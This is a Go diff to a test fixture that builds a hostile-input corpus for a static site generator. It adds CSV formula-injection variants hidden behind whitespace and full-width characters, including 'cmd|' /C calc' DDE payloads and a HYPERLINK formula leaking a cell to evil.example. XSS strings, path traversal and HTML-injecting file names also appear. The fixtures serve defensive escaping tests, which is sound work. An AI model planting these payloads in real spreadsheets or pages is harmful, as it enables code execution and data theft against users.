@@ -51,6 +51,12 @@ var Corpus = []Payload{
 	{"CSV minus", `-1+1`},
 	{"CSV at", `@SUM(1+1)*cmd|' /C calc'!A0`},
 	{"CSV tab", "\t=1+1"},
+	// Spreadsheets skip blanks before a formula, and encoding/csv drops a
+	// lone CR; NFKC folds the full-width ＝ into = (issue 23).
+	{"CSV carriage return", "\r=cmd|' /C calc'!A0"},
+	{"CSV line feed", "\n+cmd|' /C calc'!A0"},
+	{"CSV space", "  @SUM(1+1)*cmd|' /C calc'!A0"},
+	{"CSV full-width equals", "\uff1dHYPERLINK(\"http://evil.example/?leak=\"&A1,\"click\")"},
 	{"Markdown link and image", `[click](javascript:alert(1)) ![img](javascript:alert(1)) <javascript:alert(1)> [ent](&#106;avascript:alert(1))`},
 	{"path traversal", `../../../../etc/passwd`},
 	{"long", strings.Repeat("A", 5000) + `<script>alert(1)</script>`},
@@ -98,6 +104,16 @@ var (
 	PMAction   = `</td><script>alert(1)</script>`
 	// PM2Title starts with '=': postmortems.csv must neutralise it.
 	PM2Title = `=HYPERLINK("http://evil.example","x")`
+
+	// Formulas are text cells that a spreadsheet would run once blanks and
+	// compatibility forms are looked past (issue 23). Each reaches a
+	// download of its own: SLO2Name slo.csv, AreaName and TeamName
+	// areas.csv, PM2Severity postmortems.csv (the corpus reaches
+	// releases.csv).
+	SLO2Name    = "\t\uff0bcmd|' /C calc'!A0 latency"
+	AreaName    = " \uff20SUM(1+1) area"
+	TeamName    = "\r\n-cmd team"
+	PM2Severity = "\ufe66cmd|' /C calc'!A0"
 )
 
 // Texts are the corpus texts.
@@ -131,9 +147,9 @@ func WriteSite(t testing.TB) string {
 	write("site.toml", siteTOML())
 	writeStore(t, filepath.Join(dir, "content", "data", "store"))
 	write("content/metrics/m.csv", metricsCSV(t))
-	write("content/postmortems/2025-03-01-hostile.md", postmortem(PMTitle, "2025-03-01T10:00:00Z", Corpus[0].Text))
+	write("content/postmortems/2025-03-01-hostile.md", postmortem(PMTitle, PMSeverity, "2025-03-01T10:00:00Z", Corpus[0].Text))
 	// A file name is data too: quotes and angle brackets are legal on Linux.
-	write(`content/postmortems/2025-04-02-"><img src=x onerror=alert(1)>.md`, postmortem(PM2Title, "2025-04-02T08:00:00Z", Corpus[1].Text))
+	write(`content/postmortems/2025-04-02-"><img src=x onerror=alert(1)>.md`, postmortem(PM2Title, PM2Severity, "2025-04-02T08:00:00Z", Corpus[1].Text))
 	write("content/_index.md", "# Home <script>alert(1)</script>\n\n"+markdownBody())
 	write("content/postmortems/_index.md", "# Postmortems <img src=x onerror=alert(1)>\n\n"+markdownBody())
 	write(`content/notes/"'><svg onload=alert(1)>.md`, "+++\ntitle = "+Quote(Corpus[2].Text)+"\ndescription = "+Quote(Corpus[9].Text)+"\n+++\n"+markdownBody())
@@ -153,6 +169,8 @@ func siteTOML() string {
 	b.WriteString("]\n\n[issues]\nbug_labels = [\"bug\"]\n\n")
 	b.WriteString("[[metrics.source]]\nname = \"m\"\nfile = \"content/metrics/m.csv\"\nformat = \"csv\"\n\n")
 	fmt.Fprintf(&b, "[[slo]]\nname = %s\ndescription = %s\ntarget = 0.99\nwindow = \"30d\"\ntotal = \"m:total\"\nbad = \"m:bad\"\n\n", Quote(SLOName), Quote(SLODescription))
+	fmt.Fprintf(&b, "[[slo]]\nname = %s\ntarget = 0.99\nwindow = \"30d\"\ntotal = \"m:total\"\nbad = \"m:bad\"\n\n", Quote(SLO2Name))
+	fmt.Fprintf(&b, "[areas.labels]\n%s = [\"bug\"]\n\n[teams]\n%s = [%s]\n\n", Quote(AreaName), Quote(TeamName), Quote(AreaName))
 	fmt.Fprintf(&b, "[[kpi]]\nname = %s\nseries = %s\nunit = %s\ntarget = 100\nstage = %s\n\n", Quote(KPIName), Quote("m:"+SeriesColumn), Quote(KPIUnit), Quote(Stages[0]))
 	fmt.Fprintf(&b, "[[kpi]]\nname = %s\nseries = \"m:total\"\nstage = %s\n\n", Quote(KPI2Name), Quote(Stages[1]))
 	b.WriteString("[funnel]\nstages = [")
@@ -189,12 +207,12 @@ func markdownBody() string {
 	return b.String()
 }
 
-func postmortem(title, started, extra string) string {
+func postmortem(title, severity, started, extra string) string {
 	s, _ := time.Parse(time.RFC3339, started)
 	at := func(d time.Duration) string { return s.Add(d).Format(time.RFC3339) }
 	var b strings.Builder
 	b.WriteString("---\n")
-	fmt.Fprintf(&b, "title: %s\nseverity: %s\nstatus: %s\nrepo: %s\nrelease: %s\n", Quote(title), Quote(PMSeverity), Quote(PMStatus), Quote(Repos[0]), Quote(Corpus[0].Text))
+	fmt.Fprintf(&b, "title: %s\nseverity: %s\nstatus: %s\nrepo: %s\nrelease: %s\n", Quote(title), Quote(severity), Quote(PMStatus), Quote(Repos[0]), Quote(Corpus[0].Text))
 	fmt.Fprintf(&b, "started: %s\ndetected: %s\nmitigated: %s\nresolved: %s\n", at(0), at(10*time.Minute), at(40*time.Minute), at(3*time.Hour))
 	fmt.Fprintf(&b, "services: [%s, %s]\ntags: [%s, %s]\n", Quote(PMService), Quote(extra), Quote(PMTag), Quote(Corpus[8].Text))
 	b.WriteString("action_items:\n")
